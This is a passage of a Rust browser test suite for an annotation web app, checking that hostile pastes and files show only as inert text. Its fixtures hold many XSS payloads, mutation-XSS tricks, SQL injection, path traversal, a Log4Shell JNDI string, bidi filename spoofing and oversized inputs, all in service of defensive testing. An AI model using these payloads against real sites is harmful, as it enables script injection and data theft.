//! Hostile text: whatever is pasted or opened is shown as text, runs nothing, is marked where it was
//! marked, and comes out as it went in.
//!
//! Most pastes are events made by a script: the clipboards of systems mend or cut what these hold. What
//! the page makes of them does not know the difference.

use anyhow::{Context as _, Result, ensure};
use galley_core::formats::galley;
use galley_core::model::article::MOST_BLOCKS;
use galley_core::model::id::ArticleId;
use galley_core::model::time::Timestamp;
use galley_core::model::work::Work;
use galley_core::reading::build::{Intake, build};
use galley_core::text::is_grapheme_boundary;
use journeys::{Browser, PATIENCE, Site, journey};
use serde::Deserialize;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::time::Instant;

/// Strings that break programs; see PROVENANCE.md beside them.
const NAUGHTY: &str = include_str!("../../fixtures/naughty-strings/strings.jsonl");

fn naughty() -> Result<Vec<String>> {
    let line = |line| -> Result<String> {
        let value: Value = serde_json::from_str(line)?;
        Ok(value["text"].as_str().context("no text")?.to_owned())
    };
    NAUGHTY.lines().map(line).collect()
}

/// Counts whatever should not happen; what the payloads call is `ran`.
const WATCH: &str = "window.happened = [];
    window.ran = (what = 'script') => happened.push(String(what));
    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) window[name] = (what) => ran(name + ' ' + what);
    for (const name of ['error', 'unhandledrejection', 'securitypolicyviolation']) {
        addEventListener(name, (event) => ran(`${name} ${event.message ?? event.violatedDirective ?? event.reason}`), true);
    }
    addEventListener('change', () => { window.broughtAt = performance.now(); }, true);
    Object.defineProperty(Object.prototype, 'polluted', { set() { ran('pollution'); }, configurable: true });";

/// Pastes: rich text beside plain text, either of which may be missing.
const PASTE: &str = "const [plain, html] = arguments;
    const data = new DataTransfer();
    const text = Array.isArray(plain) ? String.fromCharCode(...plain) : plain;
    if (text !== null) data.setData('text/plain', text);
    if (html !== null) data.setData('text/html', html);
    window.broughtAt = performance.now();
    document.querySelector('#paste').dispatchEvent(
        new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));";

/// Selects UTF-16 units of a block (a number from the end where it is negative), strikes Q, and returns
/// the new mark's id once it is painted; null where there is nothing to mark.
const MARK: &str = "
    const [index, from, to] = args;
    const frame = () => new Promise((go) => requestAnimationFrame(go));
    const block = [...document.querySelectorAll('[data-block]')].at(index);
    const near = block.getBoundingClientRect();
    if (near.bottom < 0 || near.top > innerHeight) { block.scrollIntoView({ block: to < 0 ? 'end' : 'start' }); await frame(); }
    const length = block.textContent.length;
    const spot = (offset) => {
        let left = Math.max(0, Math.min(length, offset < 0 || Object.is(offset, -0) ? length + offset : offset));
        const walker = document.createTreeWalker(block, NodeFilter.SHOW_TEXT);
        let node = walker.nextNode();
        while (node && left > node.length) { left -= node.length; node = walker.nextNode(); }
        return [node, left];
    };
    const ids = () => new Set([...document.querySelectorAll('mark[data-ids]')].flatMap((mark) => mark.dataset.ids.split(' ')));
    const before = ids();
    getSelection().removeAllRanges();
    for (let wait = 0; wait < 60 && document.querySelector('[role=toolbar]'); wait++) await frame();
    const [start, end] = [spot(from), spot(to === 0 ? length : to)];
    getSelection().setBaseAndExtent(...start, ...end);
    for (let wait = 0; !document.querySelector('[role=toolbar]'); wait++) {
        if (wait > 25) return null;
        await frame();
    }
    document.querySelector('[data-article]').dispatchEvent(
        new KeyboardEvent('keydown', { key: 'q', bubbles: true, cancelable: true }));
    for (let wait = 0; wait < 600; wait++) {
        await frame();
        const fresh = [...ids()].filter((id) => !before.has(id));
        if (fresh.length) return fresh[0];
    }
    throw 'the mark is not painted';";

/// What is on the desk: the article's id, and the texts of its blocks.
#[derive(Debug, Deserialize)]
struct Shown {
    id: String,
    blocks: Vec<String>,
}

/// Waits for another article than these on the desk.
async fn wait_shown(browser: &Browser, known: &BTreeMap<String, Vec<u8>>) -> Result<Shown> {
    let script = "const article = document.querySelector('[data-article]');
        return article !== null && !arguments[0].includes(article.dataset.article)
            && location.hash.endsWith(article.dataset.article)";
    let known: Vec<&String> = known.keys().collect();
    browser.wait_until("the article", script, vec![json!(known)]).await?;
    let script = "return { id: document.querySelector('[data-article]').dataset.article,
        blocks: [...document.querySelectorAll('[data-block]')].map((one) => one.textContent) }";
    browser.ask(script, vec![]).await
}

/// Back to the start screen, in the same page.
async fn go_back(browser: &Browser) -> Result<()> {
    browser.ask::<()>("location.hash = '#/'", vec![]).await?;
    browser.wait_until("the field", "return document.querySelector('#paste') !== null", vec![]).await
}

async fn start(browser: &Browser) -> Result<()> {
    browser.before_each_page(WATCH).await?;
    browser.visit("").await?;
    browser.wait_for("#paste").await?;
    Ok(())
}

/// Nothing ran, nothing was asked for, nothing of a payload stands in the page but as text.
async fn check_quiet(site: &Site, browser: &mut Browser) -> Result<()> {
    let happened: Vec<String> = browser.ask("return happened", vec![]).await?;
    ensure!(happened.is_empty(), "{happened:?}");
    browser.check_console_clean().await?;
    let asked: Vec<String> = site.requests().into_iter().filter(|path| path.contains("hostile")).collect();
    ensure!(asked.is_empty(), "{asked:?}");
    let foreign = "return [...document.querySelectorAll('script, style, base, iframe, object, embed, form[action], img, math, video, link, meta, a')]
        .filter((one) => one.closest('body') && (one.localName !== 'a' || !/^(#|https?:)/.test(one.getAttribute('href'))))
        .map((one) => one.outerHTML.slice(0, 200))";
    let foreign: Vec<String> = browser.ask(foreign, vec![]).await?;
    ensure!(foreign.is_empty(), "{foreign:?}");
    Ok(())
}

/// The Galley JSON of the article on the desk, as a reader takes it away.
async fn download(browser: &Browser) -> Result<Vec<u8>> {
    browser.press("Ctrl+s").await?;
    Ok(browser.take_download(".json").await?.1)
}

/// Marks the edges of the first and the last block, and pairs of units within; all words as painted.
async fn mark_edges(browser: &Browser) -> Result<BTreeMap<String, String>> {
    for (block, from, to) in [(0, 0, 1), (0, 1, 3), (0, 5, 6), (-1, -1, 0), (-1, -3, -2)] {
        browser.ask_async::<Option<String>>(MARK, vec![json!(block), json!(from), json!(to)]).await?;
    }
    let script = "const words = {};
        for (const mark of document.querySelectorAll('mark[data-ids]')) {
            for (const id of mark.dataset.ids.split(' ')) words[id] = (words[id] ?? '') + mark.textContent;
        }
        return words";
    browser.ask(script, vec![]).await
}

/// In the file the words of each mark are the slice of the text by code points, end where clusters end,
/// and are what is painted.
fn check_marks(file: &Value, painted: &BTreeMap<String, String>) -> Result<usize> {
    let text = file["article"]["text"].as_str().context("no text")?;
    let marks = file["annotations"].as_array().context("no list")?;
    let places: Vec<usize> = text.char_indices().map(|(at, _)| at).chain([text.len()]).collect();
    for mark in marks {
        let part = &mark["parts"][0];
        let place = |end: &str| -> Result<usize> {
            let at = usize::try_from(part[end].as_u64().context("no place")?)?;
            places.get(at).copied().context("a place behind the end")
        };
        let (start, end) = (place("start")?, place("end")?);
        ensure!(part["exact"] == text[start..end], "{part} is not {:?}", &text[start..end]);
        ensure!(is_grapheme_boundary(text, start) && is_grapheme_boundary(text, end), "{part} splits a cluster");
        let id = mark["id"].as_str().context("no id")?;
        ensure!(painted.get(id).map(String::as_str) == Some(&text[start..end]), "{part} is painted as {painted:?}");
    }
    Ok(marks.len())
}

/// The text after the rules of intake: one byte order mark goes, each line end is LF.
fn kept(text: &str) -> String {
    text.strip_prefix('\u{FEFF}').unwrap_or(text).replace("\r\n", "\n").replace('\r', "\n")
}

/// Blocks as the core cuts them.
fn blocks(text: &str) -> Vec<String> {
    let article = build(ArticleId::from_u128(1), Intake::plain(text));
    article.blocks.iter().map(|block| block.range.of(article.text.as_str()).to_owned()).collect()
}

/// Checks what stands on the desk against the text that should, marks it, and takes its file away.
async fn check_shown(browser: &Browser, shown: &Shown, text: &str) -> Result<Vec<u8>> {
    ensure!(shown.blocks == blocks(text), "{:?} instead of {:?}", shown.blocks, blocks(text));
    let squeeze = |text: &str| text.chars().filter(|c| !galley_core::text::is_edge_space(*c)).collect::<String>();
    ensure!(squeeze(&shown.blocks.concat()) == squeeze(text), "the blocks do not hold the text");
    let painted = mark_edges(browser).await?;
    let bytes = download(browser).await?;
    let file: Value = serde_json::from_slice(&bytes)?;
    ensure!(file["article"]["text"] == text, "{} instead of {text:?}", file["article"]["text"]);
    let marks = check_marks(&file, &painted)?;
    ensure!(marks > 0 && marks == painted.len(), "{marks} marks in the file, {} painted", painted.len());
    Ok(bytes)
}

/// Opens files in a browser that has none of their articles, and takes them away again: the same bytes.
async fn check_same_again(browser: &Browser, files: &BTreeMap<String, Vec<u8>>) -> Result<()> {
    // A page that is left keeps what it still has to keep: it is left first.
    browser.visit("").await?;
    browser.wait_for_mark("galley:ready").await?;
    browser.wipe_storage().await?;
    browser.visit("").await?;
    browser.wait_for_text("No articles on this device").await?;
    let mut paths = Vec::new();
    for (id, bytes) in files {
        paths.push(browser.make_file(&format!("{id}.galley.json"), bytes)?);
    }
    let paths: Vec<&std::path::Path> = paths.iter().map(|path| path.as_path()).collect();
    browser.choose_files("Open a file", &paths).await?;
    let last = files.keys().next_back().context("no files")?;
    let script = "return location.hash.endsWith(arguments[0]) && document.querySelector('[data-article]') !== null";
    browser.wait_until("the last file", script, vec![json!(last)]).await?;
    ensure!(browser.count(".notice").await? == 0, "{:?}", browser.texts(".notice").await?);
    for (id, bytes) in files {
        browser.ask::<()>("location.hash = '#/article/' + arguments[0]", vec![json!(id)]).await?;
        let script = "return document.querySelector('[data-article]')?.dataset.article === arguments[0]";
        browser.wait_until("the article", script, vec![json!(id)]).await?;
        // The keyboard begins in the text when the article has come; a key before that goes nowhere.
        browser.wait_for_focus_in_article().await?;
        browser.ask_async::<()>("await new Promise((go) => setTimeout(go, 60))", vec![]).await?;
        let again = download(browser).await.context("the same again")?;
        ensure!(again == *bytes, "{} became {}", String::from_utf8_lossy(bytes), String::from_utf8_lossy(&again));
    }
    Ok(())
}

/// Plain texts, each by its name.
fn plain_texts() -> Vec<(&'static str, String)> {
    let family = "👩‍👩‍👧‍👦";
    let mut texts: Vec<(&str, String)> = vec![
        // What begins as a page's source is refused in words (the journeys of what arrives).
        ("script tags", "Tags: <script>ran()</script>\n</title><script src=/hostile.js></script>\n<img src=/hostile.png onerror=ran()>"),
        ("handlers", "\"><svg/onload=ran()>'`--><body onload=ran()>\njavascript:ran()\n<a href=\"javascript:ran()\">click</a>"),
        ("templates", "{{constructor.constructor('ran()')()}} ${ran()} <%= ran() %> #{ran()} [[ran()]] {% raw %}"),
        // JSON alone is refused in words (the journeys of pastes); behind a line of words it is a text.
        ("JSON", "A file:\n{\"format\":\"galley\",\"version\":1,\"article\":{\"text\":\"\"}}\n{\"__proto__\":{\"polluted\":1}}"),
        ("own keys", "galley:article:00000000-0000-4000-8000-000000000000\ngalley:pending: entry/ head/ data-block=\"0\" #/article/x b0"),
        ("entities", "&lt;script&gt; &amp;lt; &#60;b&#62; &nbsp;&copy; &notanentity; &#x202E;"),
        ("overrides", "The \u{202E}gnp.exe\u{202C} file, \u{2067}one \u{2066}two\u{2069} three\nand \u{202E} never closed\n\u{2069}\u{2069}\u{202C} closed too often"),
        ("no width", "z\u{200B}e\u{200C}r\u{200D}o \u{FEFF}in\u{FEFF}side so\u{AD}ft\u{AD} w\u{2060}j \u{200E}\u{200F}marks\u{200B}"),
        ("controls", "NUL\0 bell\u{7} escape\u{1B}[31m tab\t vertical\u{B} form\u{C} del\u{7F} c1\u{80}\u{9F} \u{1}\u{2}\u{1F} end"),
        ("line ends", "one\r\ntwo\rthree\n\rfour\u{2028}still four\u{2029}and four\u{85}too\r\n\r\n\r\nfive\r"),
        ("private", "\u{E000}\u{F8FF} \u{FFFE}\u{FFFF}\u{FDD0} \u{1FFFE} \u{10FFFF} \u{FFFD} \u{FFFC}object \u{E0001}\u{E0041}tags"),
        ("families at edges", "👩‍👩‍👧‍👦x👩🏽‍🚒\n🏴󠁧󠁢󠁳󠁣󠁴󠁿1️⃣👁️‍🗨️"),
        ("flags", "🇩🇪🇫🇷🇳🇴🇩 odd 🇯🇵🇰🇷"),
        ("accents at edges", "e\u{301}\u{327}a\u{30A}\u{323} o\u{308}\nZ\u{36F}\u{36F}\u{36F}end\u{301}"),
        ("hangul and more", "\u{1112}\u{1161}\u{11AB}\u{1100}\u{1173}\u{11AF} 한글 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \u{1F1E6}\u{200D}\u{1F1E6}"),
        ("right to left", "שלום עולם, אמר ראש העיר. “מרחבא” (1) 50%\nقالت الوزيرة إن المشروع \u{200F}(A320)\u{200F} انتهى."),
        ("Thai and Devanagari", "ที่นี่มีน้ำ กำลังประชุม\nक्षत्रिय कर्त्ता हिन्दी र्‍क नि"),
        ("no page", "undefined\nnull\nNaN\n[object Object]\ntrue\n-1\n1e400"),
        ("queries", "' OR 1=1 --\n\"; DROP TABLE articles; --\n../../../etc/passwd%00\n%s%s%n ${jndi:ldap://x.invalid/a}"),
        ("markup of ours", "<mark data-ids=\"x\" data-kind=\"quote\">not a mark</mark> <p data-block=\"7\">no block</p> <div role=\"toolbar\">"),
    ]
    .into_iter()
    .map(|(name, text)| (name, text.to_owned()))
    .collect();
    texts.push(("a long word", format!("{}\nand {}", "Donaudampfschiff".repeat(700), family.repeat(300))));
    texts.push(("two byte order marks", "\u{FEFF}\u{FEFF}first and \u{FEFF}last\u{FEFF}".to_owned()));
    texts.push((
        "accents in heaps",
        format!("Z{} and a{}", "\u{301}\u{334}\u{489}".repeat(400), "\u{489}".repeat(2_000)),
    ));
    texts
}

/// Rich texts: name, HTML, what of it are words.
fn rich_texts() -> Vec<(&'static str, String, &'static str)> {
    let mut texts: Vec<(&str, String, &str)> = [
        ("script", "<p>Rich one<script>ran()</script><script src='/hostile.js'></script></p>", "Rich one"),
        ("picture", "<p>Rich two <img src=/hostile.png onerror=ran()><img srcset='/hostile2.png 2x'></p>", "Rich two"),
        ("link", "<p>Rich three <a href='javascript:ran()'>one</a> <a href=' JaVaScRiPt&#58;ran()'>two</a> <a href='data:text/html,x'>x</a></p>", "Rich three one two x"),
        ("SVG", "<p>Rich four</p><svg onload=ran()><script>ran()</script><image href=/hostile.svg /><text>drawn</text><a xlink:href='javascript:ran()'><rect/></a></svg>", "Rich four\ndrawn"),
        ("MathML", "<p>Rich five</p><math><mi xlink:href='javascript:ran()'>x</mi><annotation-xml encoding='text/html'><img src=/hostile onerror=ran()></annotation-xml></math>", "Rich five\nx"),
        ("style", "<style>@import '/hostile.css'; body { background: url(/hostile.png) }</style><p style='background:url(/hostile.png)'>Rich six</p>", "Rich six"),
        ("meta and base", "<base href='https://x.invalid/'><meta http-equiv=refresh content='0;url=/hostile'><link rel=stylesheet href=/hostile.css><p>Rich seven</p>", "Rich seven"),
        ("frames", "<p>Rich eight</p><iframe src=/hostile srcdoc='<script>parent.ran()</script>'>in it</iframe><object data=/hostile>o</object><embed src=/hostile>", "Rich eight"),
        ("mutation", "<p>Rich nine</p><noscript><p title=\"</noscript><img src=/hostile onerror=ran()>\"></noscript><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=/hostile onerror=ran()&gt;\">", "Rich nine \">"),
        ("form", "<form action=/hostile><p>Rich ten</p><input autofocus onfocus=ran() value=x><button formaction='javascript:ran()'>Go</button></form>", "Rich ten\nGo"),
        ("words like tags", "<p>Rich eleven &lt;script&gt;ran()&lt;/script&gt; &amp;lt;b&amp;gt;</p>", "Rich eleven <script>ran()</script> &lt;b&gt;"),
        ("never closed", "<p>Rich twelve <b <i onmouseover=ran()//", "Rich twelve"),
    ]
    .into_iter()
    .map(|(name, html, words)| (name, html.to_owned(), words))
    .collect();
    let deep = format!("{}Rich deep{}", "<div>".repeat(100_000), "</div>".repeat(50_000));
    texts.push(("a hundred thousand deep", deep, "Rich deep"));
    texts.push(("links in links", format!("Rich links {}", "<a href='https://x.invalid/'>a".repeat(20_000)), ""));
    texts.push(("tags without end", format!("Rich tags<style>{}", "</styl".repeat(500_000)), "Rich tags"));
    texts
}

#[tokio::test]
async fn hostile_pastes_are_text() -> Result<()> {
    journey(async |site, browser| {
        start(browser).await?;
        let mut files = BTreeMap::new();
        for (name, text) in plain_texts() {
            browser.ask::<()>(PASTE, vec![json!(text), Value::Null]).await?;
            let shown = wait_shown(browser, &files).await.with_context(|| name.to_owned())?;
            let bytes = check_shown(browser, &shown, &kept(&text)).await.with_context(|| name.to_owned())?;
            check_quiet(site, browser).await.with_context(|| name.to_owned())?;
            files.insert(shown.id, bytes);
            go_back(browser).await?;
        }
        // Halves of surrogate pairs, which only a script can paste: each becomes one U+FFFD.
        let units: Vec<u16> = [b'a' as u16, 0xD83D, b'b' as u16, 0xDE00, 0xDE00, 0xD83D, 0xD83D, 0xDE0A].to_vec();
        browser.ask::<()>(PASTE, vec![json!(units), Value::Null]).await?;
        let shown = wait_shown(browser, &files).await?;
        let text = String::from_utf16_lossy(&units);
        files.insert(shown.id.clone(), check_shown(browser, &shown, &text).await.context("halves of pairs")?);
        check_quiet(site, browser).await?;
        // The list shows their names as text.
        go_back(browser).await?;
        check_quiet(site, browser).await?;
        ensure!(browser.text().await?.contains("<script>ran()</script>"));
        println!("{} plain texts", files.len());
        check_same_again(browser, &files).await?;
        check_quiet(site, browser).await
    })
    .await
}

#[tokio::test]
async fn hostile_rich_pastes_are_words() -> Result<()> {
    journey(async |site, browser| {
        start(browser).await?;
        let mut files = BTreeMap::new();
        for (name, html, words) in rich_texts() {
            // As browsers copy, with plain text beside it; and HTML alone.
            for plain in [Some(format!("Plain beside {name}: <b>x</b>")), None] {
                browser.ask::<()>(PASTE, vec![json!(plain), json!(html)]).await?;
                let shown = wait_shown(browser, &files).await.with_context(|| name.to_owned())?;
                let expected = plain.unwrap_or_else(|| words.to_owned());
                let seen = shown.blocks.join("\n");
                let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
                ensure!(expected.is_empty() || words(&seen) == words(&expected), "{name}: {seen:?}");
                let file = download(browser).await?;
                let links = serde_json::from_slice::<Value>(&file)?["article"]["links"].to_string();
                ensure!(!links.to_lowercase().contains("script") && !links.contains("data:"), "{name}: {links}");
                check_quiet(site, browser).await.with_context(|| name.to_owned())?;
                files.insert(shown.id, file);
                go_back(browser).await?;
            }
        }
        println!("{} rich texts", files.len());
        Ok(())
    })
    .await
}

#[tokio::test]
async fn all_naughty_strings_are_text_and_can_be_marked() -> Result<()> {
    let text = naughty()?.join("\n");
    journey(async |site, browser| {
        start(browser).await?;
        // By the real clipboard and the keyboard.
        browser.paste_into("textbox", "Paste an article", &text).await?;
        // So many tags are taken for a page's source.
        browser.click("button", "Open as plain text all the same").await?;
        let shown = wait_shown(browser, &BTreeMap::new()).await?;
        let text = kept(&text);
        ensure!(shown.blocks == blocks(&text), "{:?}", shown.blocks);
        let (mut marks, mut bare) = (0, Vec::new());
        for (at, block) in shown.blocks.iter().enumerate() {
            // No hand can select half a surrogate pair.
            let first = block.chars().next().map_or(1, char::len_utf16);
            match browser.ask_async::<Option<String>>(MARK, vec![json!(at), json!(0), json!(first)]).await? {
                Some(_) => marks += 1,
                None => bare.push(block),
            }
        }
        println!("{} blocks, {marks} marked at their first letter; not: {bare:?}", shown.blocks.len());
        ensure!(bare.is_empty(), "{bare:?}");
        let painted = mark_edges(browser).await?;
        let bytes = download(browser).await?;
        let file: Value = serde_json::from_slice(&bytes)?;
        ensure!(file["article"]["text"] == text);
        ensure!(check_marks(&file, &painted)? >= marks);
        check_quiet(site, browser).await?;
        check_same_again(browser, &[(shown.id, bytes)].into_iter().collect()).await
    })
    .await
}

/// Pastes a text that the page makes, and waits for it. Prints how long that took, in milliseconds.
async fn open_large(browser: &Browser, name: &str, script: &str, known: &BTreeMap<String, Vec<u8>>) -> Result<String> {
    let paste = PASTE.replace(
        "const [plain, html] = arguments;",
        &format!("const html = null; const plain = {script}; window.pasted = plain;"),
    );
    browser.ask::<()>(&paste, vec![]).await?;
    let script = "const article = document.querySelector('[data-article]');
        return article !== null && !arguments[0].includes(article.dataset.article)
            && performance.getEntriesByName('galley:article-painted', 'mark').at(-1)?.startTime > broughtAt";
    let known: Vec<&String> = known.keys().collect();
    browser.wait_until(name, script, vec![json!(known)]).await?;
    let script = "return [document.querySelector('[data-article]').dataset.article,
        performance.getEntriesByName('galley:article-painted', 'mark').at(-1).startTime - broughtAt,
        document.querySelectorAll('*').length]";
    let (id, took, elements): (String, f64, usize) = browser.ask(script, vec![]).await?;
    println!("{name}: painted after {took:.0} ms, {elements} elements");
    Ok(id)
}

#[tokio::test]
async fn five_megabytes_of_anything_are_bounded() -> Result<()> {
    const TEXTS: &[(&str, &str)] = &[
        ("one line of words", "'word and '.repeat(555_000).trim()"),
        ("one word", "'x'.repeat(5_000_000)"),
        ("one letter a line", "'a\\n'.repeat(2_500_000)"),
        ("line ends around a letter", "'\\n'.repeat(2_400_000) + 'b' + '\\n'.repeat(2_400_000)"),
        ("forty thousand letters", "'c\\n'.repeat(40_000)"),
        ("accents on one letter", "'a' + '\\u0301'.repeat(10_000)"),
        ("flags", "'🇩🇪'.repeat(600_000)"),
        ("families", "'👩‍👩‍👧‍👦'.repeat(190_000)"),
    ];
    journey(async |site, browser| {
        start(browser).await?;
        browser.wait_for_mark("galley:ready").await?;
        browser.wait_ready_for_offline().await?;
        let mut files = BTreeMap::new();
        for (name, script) in TEXTS {
            let id = open_large(browser, name, script, &files).await?;
            ensure!(browser.count("[data-block]").await? <= MOST_BLOCKS, "{name}: too many blocks");
            let same = "const shown = [...document.querySelectorAll('[data-block]')].map((one) => one.textContent).join('\\n');
                return shown.replaceAll('\\n', '') === pasted.replaceAll('\\n', '')";
            ensure!(browser.ask::<bool>(same, vec![]).await?, "{name}: the blocks do not hold the text");
            // At either end; two units, since no hand can select half a surrogate pair.
            for (block, from, to) in [(0, 0, 2), (-1, -2, 0)] {
                let mark: Option<String> = browser.ask_async(MARK, vec![json!(block), json!(from), json!(to)]).await?;
                ensure!(mark.is_some(), "{name}: not marked");
            }
            let bytes = download(browser).await?;
            let file: Value = serde_json::from_slice(&bytes)?;
            ensure!(browser.ask::<bool>("return pasted === arguments[0]", vec![file["article"]["text"].clone()]).await?, "{name}: another text");
            let letters: Vec<char> = file["article"]["text"].as_str().context("no text")?.chars().collect();
            for mark in file["annotations"].as_array().context("no list")? {
                let part = &mark["parts"][0];
                let at = |end: &str| usize::try_from(part[end].as_u64().unwrap_or(0));
                let slice: String = letters[at("start")?..at("end")?].iter().collect();
                ensure!(part["exact"] == slice, "{name}: {part}");
            }
            files.insert(id, bytes);
            check_quiet(site, browser).await.with_context(|| (*name).to_owned())?;
            browser.wait_saved().await?;
            go_back(browser).await?;
        }
        // Longer ones are refused, in words.
        let longer = PASTE.replace("const [plain, html] = arguments;", "const html = null, plain = 'é'.repeat(2_500_001);");
        browser.ask::<()>(&longer, vec![]).await?;
        browser.wait_for_text("This text is too long for Galley").await?;
        Ok(())
    })
    .await
}

#[tokio::test]
async fn hostile_text_files_are_text() -> Result<()> {
    journey(async |site, browser| {
        start(browser).await?;
        // A file with NUL is no text, and says so; all the others open.
        let texts: Vec<(&str, String)> = plain_texts().into_iter().filter(|(_, text)| !text.contains('\0')).collect();
        let mut paths = Vec::new();
        for (name, text) in &texts {
            // A file may begin like Galley's own and be none of it.
            if *name != "JSON" {
                paths.push(browser.make_file(
                    &format!("{name} '\"<img src=x onerror=ran()>.txt").replace(['/', '"'], "_"),
                    text.as_bytes(),
                )?);
            }
        }
        let refs: Vec<&std::path::Path> = paths.iter().map(|path| path.as_path()).collect();
        browser.choose_files("Open a file", &refs).await?;
        let script = "return document.querySelector('[data-article]') !== null";
        browser.wait_until("an article", script, vec![]).await?;
        let deadline = Instant::now() + PATIENCE;
        let mut held: Vec<String> = Vec::new();
        while held.len() != paths.len() && Instant::now() < deadline {
            held = browser.records("text/").await?.into_iter().map(|(_, record)| record).collect();
        }
        let mut found: Vec<String> = Vec::new();
        for record in &held {
            found.push(serde_json::from_str::<Value>(record)?["text"].as_str().context("no text")?.to_owned());
        }
        for (name, text) in texts.iter().filter(|(name, _)| *name != "JSON") {
            ensure!(
                found.contains(&kept(text)),
                "{name} is not among {} texts; {:?}",
                found.len(),
                browser.texts(".notice").await?
            );
        }
        check_quiet(site, browser).await
    })
    .await
}

/// A Galley file with the same words in every field that takes words.
fn hostile_file(words: &str, number: u128) -> Result<Vec<u8>> {
    let id = ArticleId::from_u128(0x0bad_0000_0000_4000_8000_0000_0000_0000 + number);
    // Each a story of its own: of one that is here already, Galley would ask what differs.
    let text = format!("The ferry bill was signed at night.\nNobody said why, {number} times.");
    let work = Work::new(build(id, Intake::plain(&text)), Timestamp::from_millis(1_790_000_000_000));
    let mut file: Value = serde_json::from_str(&galley::write(&work))?;
    for key in ["title", "outlet", "url", "published", "updated", "language", "direction", "origin", "x-unknown"] {
        file["article"][key] = json!(words);
    }
    file["article"]["authors"] = json!([words, words]);
    file["article"]["links"] = json!([{ "start": 4, "end": 9, "href": words }]);
    file["generator"] = json!(words);
    file["codebook"]["name"] = json!(words);
    file["codebook"]["kinds"] = json!([{
        "id": "k", "name": words, "role": "custom", "definition": words, "example": words, "key": words,
        "attributes": [{ "id": words, "name": words, "choices": [{ "id": words, "name": words }] },
            { "id": "free", "name": words, "choices": [] }],
    }]);
    file["persons"] = json!([{ "id": "00000000-0000-4000-8000-000000000009", "name": words, "aliases": [words] }]);
    let mark = |number: u32, kind: &str| {
        json!({ "id": format!("00000000-0000-4000-8000-{number:012}"), "kind": kind,
            "parts": [{ "start": 4, "end": 9, "exact": "ferry" }], "anchoring": "exact",
            "attributes": { words: words, "free": words }, "note": words, "tags": [words], "origin": words,
            "creator": words, "created": "2026-11-24T00:00:00.000Z", "modified": "2026-11-24T00:00:00.000Z" })
    };
    // The id of a kind is a word: without white space.
    let slug: String = words.split_whitespace().collect::<Vec<_>>().join("-");
    file["annotations"] = json!([mark(1, "k"), mark(2, if slug.is_empty() { "x" } else { &slug })]);
    Ok(serde_json::to_vec_pretty(&file)?)
}

#[tokio::test]
async fn hostile_words_in_every_field_of_a_file_are_words() -> Result<()> {
    let words = [
        "javascript:ran()",
        "JaVaScRiPt:ran()//",
        " \tjavascript:ran()",
        "data:text/html,<script>ran()</script>",
        "https://x.invalid/\" onclick=\"ran()\" x='<script>ran()</script>",
        "\"><script>ran()</script><img src=/hostile onerror=ran()>",
        "__proto__",
        "constructor",
        "\u{202E}gnp.exe \u{2066}",
        "NUL \0 and \u{1B}[0m",
        "x\"] , * { } #b0 </style>",
    ];
    let long = "long ".repeat(30_000);
    journey(async |site, browser| {
        start(browser).await?;
        let mut files = BTreeMap::new();
        for (number, words) in words.iter().copied().chain([long.as_str()]).enumerate() {
            let name: String = words.chars().take(40).collect();
            let path = browser.make_file("hostile.json", &hostile_file(words, number as u128)?)?;
            browser.choose_files("Open a file", &[&path]).await?;
            let shown = wait_shown(browser, &files).await.with_context(|| name.clone())?;
            browser.wait_for("[data-card]").await?;
            // The card and the details show every field.
            browser.click_css("[data-card] button.words").await?;
            browser.wait_for(".card.focused").await?;
            let note: String =
                browser.ask("return document.querySelector('.card.focused textarea').value", vec![]).await?;
            ensure!(note == words, "{name}: the note is {note:?}");
            browser.pick("More", "Article details…").await?;
            browser.wait_for("#d-url").await?;
            let link: Option<String> = browser
                .ask("return document.querySelector('dialog a[href]')?.getAttribute('href') ?? null", vec![])
                .await?;
            ensure!(
                link.as_deref().is_none_or(|href| href == words && href.starts_with("https://")),
                "{name}: {link:?}"
            );
            check_quiet(site, browser).await.with_context(|| name.clone())?;
            browser.press("Escape").await?;
            browser.wait_gone("#d-url").await?;
            let bytes = download(browser).await.with_context(|| name.clone())?;
            let file: Value = serde_json::from_slice(&bytes)?;
            ensure!(file["article"]["url"] == words && file["annotations"][0]["note"] == words, "{name}");
            files.insert(shown.id, bytes);
            go_back(browser).await?;
            check_quiet(site, browser).await.with_context(|| name.clone())?;
        }
        check_same_again(browser, &files).await?;
        check_quiet(site, browser).await
    })
    .await
}

#[tokio::test]
async fn files_made_to_break_readers_are_refused_or_bounded() -> Result<()> {
    journey(async |site, browser| {
        start(browser).await?;
        browser.wait_for_mark("galley:ready").await?;
        let number = std::cell::Cell::new(0);
        let with = |change: &dyn Fn(&mut Value)| -> Result<Vec<u8>> {
            number.set(number.get() + 1);
            let mut file: Value = serde_json::from_slice(&hostile_file("x", number.get())?)?;
            change(&mut file);
            Ok(serde_json::to_vec(&file)?)
        };
        let deep = format!("{{\"format\":\"galley\",\"a\":{}", "[".repeat(1_000_000));
        for (name, bytes, says) in [
            ("deep.json", deep.into_bytes(), "stops being JSON"),
            ("newer.json", with(&|f| f["version"] = json!(1e300))?, "newer Galley"),
            ("long.json", with(&|f| f["article"]["text"] = json!("x".repeat(5_000_001)))?, "too long"),
        ] {
            let path = browser.make_file(name, &bytes)?;
            browser.choose_files("Open a file", &[&path]).await?;
            browser.wait_for_text(says).await.with_context(|| name.to_owned())?;
        }
        let marks = with(&|f| {
            let part = json!([{ "start": 4, "end": 9, "exact": "ferry" }]);
            f["annotations"] = (0..100_000).map(|at| json!({ "kind": "k", "parts": part, "n": at })).collect();
        })?;
        let blocks = with(&|f| {
            f["article"]["text"] = json!("a ".repeat(100_000));
            f["article"]["blocks"] =
                (0..100_000).map(|at| json!({ "role": "caption", "start": 2 * at, "end": 2 * at + 1 })).collect();
        })?;
        let kinds = with(&|f| f["codebook"]["kinds"] = (0..50_000).map(|at| json!({ "id": format!("k{at}"), "name": "n" })).collect())?;
        for (name, bytes) in [("marks.json", marks), ("blocks.json", blocks), ("kinds.json", kinds)] {
            let path = browser.make_file(name, &bytes)?;
            browser.ask::<()>("location.hash = '#/'", vec![]).await?;
            browser.wait_until("the field", "return document.querySelector('#paste') !== null", vec![]).await?;
            browser.choose_files("Open a file", &[&path]).await?;
            let script = "return document.querySelector('[data-article]') !== null
